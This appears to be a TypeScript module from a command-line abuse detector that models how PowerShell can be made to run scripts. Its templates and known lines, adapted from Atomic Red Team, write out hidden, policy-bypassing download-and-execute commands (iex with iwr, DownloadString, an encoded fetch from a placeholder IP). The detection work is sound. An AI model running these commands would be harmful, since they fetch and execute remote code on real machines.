import type { Abuse } from "../models/abuse.ts";
import type { ProgramModel } from "../models/program-model.ts";
import { DASHES, readStart, SPELLINGS } from "./powershell/arguments.ts";
import { encodeScript, findInFile, findInScript } from "./powershell/script.ts";

/** Which script a line runs is read from its options; whether that is hostile, from the script. */
function findAbuse(line: string, bare: "file" | "command"): Abuse | undefined {
  const start = readStart(line, bare);
  if (start === undefined) return undefined;
  return start.kind === "file" ? findInFile(start.file) : findInScript(start.script);
}

const FETCH = "iex(iwr {url})";
const ENCODED = encodeScript("iex(iwr http://203.0.113.9/x)");

/** PowerShell runs scripts: from files, from its line, or encoded in that. */
export const POWERSHELL_MODEL: ProgramModel = {
  program: "powershell",
  images: [
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
  ],
  dashes: DASHES,
  spellings: SPELLINGS,
  uses: [
    `{-}c ${FETCH}{remark}`,
    `{-}NoProfile {-}WindowStyle hidden {-}Command ${FETCH}{remark}`,
    "{-}Command IEX (New-Object Net.WebClient).DownloadString('{url}'){remark}",
    "{-}Command & '{file}' {extra}",
    "{-}File {file} {extra}",
    "{-}NoProfile {-}ExecutionPolicy Bypass {-}File {file} {extra}",
    `{-}NoProfile {-}EncodedCommand ${ENCODED}`,
    `{-}WindowStyle hidden {-}EncodedCommand ${ENCODED}`,
  ],
  continuations: [
    `;${FETCH}{remark}`,
    `";${FETCH}{remark}`,
    `';${FETCH}{remark}`,
    " {file}",
    ENCODED,
    ` ${ENCODED}`,
  ],
  ending: ".ps1",
  remarks: (text) => [`;#${text}`, ...(text.includes("#>") ? [] : [`;<#${text}#>`])],
  // Written from Atomic Red Team (MIT, Red Canary, Inc.), T1059.001 and T1105.
  knownLines: [
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/r/a.ps1')\"",
    'powershell.exe -exec bypass -noprofile "iwr https://raw.githubusercontent.com/r/a.ps1 -UseBasicParsing | iex"',
    "powershell.exe -ep bypass -f C:\\Users\\Public\\x.ps1",
  ],
  readLine: (line) => {
    const abuse = findAbuse(line, "command");
    return (image) => (/[\\/]pwsh[^\\/]*$/i.test(image) ? findAbuse(line, "file") : abuse);
  },
};
